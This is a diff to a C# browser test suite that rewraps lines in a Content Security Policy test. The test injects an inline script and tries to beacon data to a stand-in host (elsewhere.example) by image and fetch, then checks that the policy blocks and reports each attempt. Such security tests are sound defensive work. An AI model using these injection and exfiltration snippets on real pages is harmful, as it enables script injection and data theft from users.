@@ -33,12 +33,15 @@ public sealed class PolicyTests(Browsers browsers)
         await using var visit = await browsers.VisitAsync();
         await visit.OpenAsync();
 
-        await visit.Page.EvaluateAsync("() => { const script = document.createElement('script'); script.textContent = 'window.slippedIn = true'; document.body.append(script); }");
-        await visit.Page.EvaluateAsync("() => { new Image().src = 'https://elsewhere.example/?what-was-said'; return fetch('https://elsewhere.example/').catch(() => {}); }");
+        await visit.Page.EvaluateAsync("() => { const script = document.createElement('script'); script.textContent = 'window.slippedIn = true'; "
+            + "document.body.append(script); }");
+        await visit.Page.EvaluateAsync("() => { new Image().src = 'https://elsewhere.example/?what-was-said'; return "
+            + "fetch('https://elsewhere.example/').catch(() => {}); }");
 
         Assert.False(await visit.Page.EvaluateAsync<bool>("() => Boolean(window.slippedIn)"));
         Assert.All(["script-src", "img-src", "connect-src"], directive => Assert.Contains(
-            visit.Complaints, complaint => complaint.Contains("Content Security Policy", StringComparison.Ordinal) && complaint.Contains(directive, StringComparison.Ordinal)));
+            visit.Complaints, complaint =>
+                complaint.Contains("Content Security Policy", StringComparison.Ordinal) && complaint.Contains(directive, StringComparison.Ordinal)));
     }
 
     [BrowserFact]
